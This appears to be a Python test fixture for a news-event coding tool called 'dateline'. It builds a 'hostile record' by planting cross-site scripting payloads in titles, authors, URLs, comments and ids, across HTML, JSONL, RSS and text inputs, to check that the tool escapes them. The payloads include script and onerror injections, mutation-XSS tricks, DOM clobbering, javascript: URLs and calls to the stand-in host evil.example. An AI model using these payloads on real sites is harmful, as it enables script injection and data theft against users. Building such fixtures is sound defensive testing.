"""A record of what nobody should ever have published: every way that we know to break out of a page, and some more.

Each trap, where it is sprung, sets `window.sprung`, opens a dialog or asks `evil.example`; `SPRUNG` and `EVIL` are what
tests look for. It is in titles, authors, publishers, addresses, texts, comments, names of actors and places, and ids.
"""

from __future__ import annotations

import json
from pathlib import Path

from tests.conftest import put, quote

import dateline
from dateline.model import (
    Act,
    Actor,
    Chain,
    Count,
    Dating,
    Document,
    EventType,
    Evidence,
    How,
    Moment,
    Party,
    Place,
    PlaceKind,
    PlacePrecision,
    Placing,
    Range,
    Reference,
    Report,
    Span,
    Status,
    Voice,
    VoiceKind,
    Zone,
    ZoneKind,
)

__all__ = ["EVIL", "LONG", "MARKUP", "SPRUNG", "TURNED", "hostile_record"]

EVIL = "evil.example"
SPRUNG = "sprung"
_DO = f"window.{SPRUNG}=1;alert(1);fetch('//{EVIL}/asked')"

# Ways to get a script run by whoever writes text into a page, or parses it twice.
MARKUP = (
    f"<script>{_DO}</script>",
    f"</title></textarea></style></script><script>{_DO}</script>",
    f'<img src=x onerror="{_DO}">',
    f'"><svg onload="{_DO}">',
    f"' autofocus onfocus='{_DO}' x='",
    f'<svg><style><img src=x onerror="{_DO}"></style></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_DO}&gt;">',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{_DO}">',
    f'<noscript><p title="</noscript><img src=x onerror={_DO}>"></noscript>',
    f'<iframe srcdoc="<script>parent.{SPRUNG}=1</script>"></iframe>',
    f'<object data="//{EVIL}/o"></object><embed src="//{EVIL}/e">',
    f'<meta http-equiv=refresh content="0;url=//{EVIL}/refreshed">',
    f'<base href="//{EVIL}/">',
    f"<link rel=stylesheet href=\"//{EVIL}/s.css\"><style>@import '//{EVIL}/i.css';</style>",
    f'<a href="javascript:{_DO}" id=main name=main>go</a>',
    "<img name=body><img name=getElementById><form id=days name=location></form><input id=find name=querySelector>",
    f'{{{{ constructor.constructor("{_DO}")() }}}} {{% raw %}} ${{{_DO}}} <%= 1 %>',
    "]]><!--><!-- -->",
    f"&lt;script&gt;{_DO}&lt;/script&gt;",
)
# Turns the rest of the line around, or hides what follows, in a browser that obeys.
TURNED = "Report \u202efdp.exe\u202c \u2066\u2067abc \u202d\u2069 \u200f\u061c end"
LONG = "x" * 10_000
_ADDRESSES = (
    f"javascript:{_DO}",
    f"JaVaScRiPt:{_DO}//http://a.example/",
    f"data:text/html,<script>{_DO}</script>",
    f"//{EVIL}/page",
    f'https://{EVIL}/"onmouseover="{_DO}',
    f"https://user:pass@{EVIL}/<b>",
)
_SENTENCE = "On 3 May 2014 rebels killed 12 men in Kismayo, a doctor said."


def hostile_record(folder: Path) -> Path:
    """Build the record, from inputs of every format and from rows that no coder of ours would make; return its path."""
    articles = folder / "articles"
    articles.mkdir(parents=True)
    _write_articles(articles)
    path = folder / "hostile.dateline"
    with dateline.build(articles, to=path) as record:
        for n, markup in enumerate((*MARKUP, TURNED, LONG)):
            document = _document(n, markup)
            put(record, document, reports=[_report(document, n, markup)], fingerprint=f"h{n}")
        record.reconcile(whole=True)
        asked = [row["id"] for row in record.incidents()]
        for id_, markup in zip(asked, (*MARKUP, TURNED, LONG), strict=False):
            record.decide(Act.ACCEPT, [id_], reviewer=markup[:60], reason=markup)
            record.decide(Act.REJECT, [id_], reviewer=f"ben {markup[:40]}", reason=markup)
    return path


def _write_articles(folder: Path) -> None:
    every = "\n".join(MARKUP)
    paragraphs = "".join(f"<p>{_SENTENCE} {markup}</p>\n" for markup in MARKUP)
    comments = "".join(
        f'<li class="comment" id="main"><div class="comment-author">{_escaped(m)}</div><p>{_SENTENCE} {m}</p></li>'
        for m in MARKUP[:6]
    )
    (folder / "page.html").write_text(
        f"""<!doctype html><html onload="{_DO}"><head><title>{_escaped(every)}</title>
<meta name="author" content="{_escaped(MARKUP[2])}"><meta property="og:site_name" content="{_escaped(MARKUP[0])}">
<meta property="og:title" content="{_escaped(MARKUP[1])}"><link rel="canonical" href="{_escaped(_ADDRESSES[0])}">
<meta property="article:published_time" content="2014-05-04"></head>
<body id="main" onload="{_DO}"><article id="map"><h1 id="days">{_escaped(MARKUP[3])} {TURNED}</h1>
{paragraphs}<p>{_SENTENCE} {LONG}</p><p dir="rtl">\u202e{_SENTENCE}</p></article>
<section id="comments" class="comments-area"><h2>6 comments</h2><ol class="comment-list">{comments}</ol></section>
</body></html>""",
        encoding="utf-8",
    )
    rows = [
        {
            "text": f"{_SENTENCE} {markup} {TURNED} {LONG}",
            "title": markup,
            "authors": [markup, TURNED],
            "publisher": f"{markup} {LONG[:900]}",
            "url": address,
            "published": "2014-05-04",
        }
        for markup, address in zip(MARKUP, _ADDRESSES * 4, strict=False)
    ]
    rows.append({"html": f"<p>{_SENTENCE}</p>{every}", "title": LONG[:1_900], "url": _ADDRESSES[3]})
    (folder / "rows.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    (folder / "note.txt").write_text(
        f"---\ntitle: {MARKUP[0]}\nauthor: {MARKUP[4]}\npublisher: {MARKUP[3]}\ndate: 2014-05-04\n---\n"
        f"{_SENTENCE}\n\n{every}\n\n{_SENTENCE} {LONG}\n\n{TURNED}\n\n"
        f"3 Comments\n\n  • {MARKUP[2]} says:\n\n    {MARKUP[0]}\n",
        encoding="utf-8",
    )
    items = "".join(
        f"<item><title>{_escaped(markup)}</title><link>{_escaped(address)}</link><author>{_escaped(markup)}</author>"
        f"<pubDate>Sun, 04 May 2014 10:00:00 GMT</pubDate><guid>{n}</guid>"
        f"<description>{_escaped(f'<p>{_SENTENCE} {markup}</p>')}</description></item>"
        for n, (markup, address) in enumerate(zip(MARKUP, _ADDRESSES * 4, strict=False))
    )
    (folder / "feed.xml").write_text(
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>{_escaped(MARKUP[0])}</title>'
        f"<link>https://{EVIL}/</link><description>x</description>{items}</channel></rss>",
        encoding="utf-8",
    )


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _document(n: int, markup: str) -> Document:
    text = f"On {1 + n} May 2014 {markup} killed 12 {markup} in {markup}, {markup} said. {markup}"
    end = text.rindex(" said.") + 6
    return Document(
        Document.id_for(f"{n:064x}", text),
        f"{n:064x}",
        text,
        path=f"{markup[:200]}.txt",
        url=_ADDRESSES[n % len(_ADDRESSES)],
        title=markup,
        authors=(markup, TURNED),
        publisher=markup,
        published=Moment("2014-06-04"),
        zones=(Zone(ZoneKind.BODY, Span(0, end)), Zone(ZoneKind.COMMENT, Span(end + 1, len(text)), author=markup)),
        references=(Reference((markup,), markup, markup, Moment("2014-05"), Span(3, 9)),),
        provenance={"title": markup, "published": markup},
    )


def _report(document: Document, n: int, markup: str) -> Report:
    text = document.text
    end = text.rindex(" said.") + 6
    doer = text.index(markup)
    whom = text.index(markup, doer + len(markup))
    where = text.index(markup, whom + len(markup))
    who = text.index(markup, where + len(markup))

    def at(start: int) -> Evidence:
        return Evidence.at(text, start, start + len(markup))

    place = Place(f"user:{markup}", markup, PlaceKind.SETTLEMENT, "SO", markup[:60], -0.36 + n / 50, 42.55 + n / 50)
    return Report(
        document=document.id,
        zone=ZoneKind.BODY,
        sentence=Evidence.at(text, 0, end),
        trigger=quote(text, "killed"),
        type=EventType.ASSAULT,
        mode=None,
        status=Status.OCCURRED,
        coder="test 1",
        actors=(Party(Actor(f"text:{markup}", markup, "rebel"), at(doer)),),
        recipients=(Party(Actor(f"text:whom {markup}", f"whom {markup}", "civilian", None, False), at(whom)),),
        places=(Placing(place, PlacePrecision.EXACT, at(where)),),
        when=Dating(Moment(f"2014-05-{1 + n:02}"), quote(text, f"{1 + n} May 2014"), How.EXPLICIT),
        killed=Count(Range.exactly(12), quote(text, "12")),
        voices=Chain((Voice(f"described:{markup}", markup, VoiceKind.WITNESS, at(who)),)),
    )
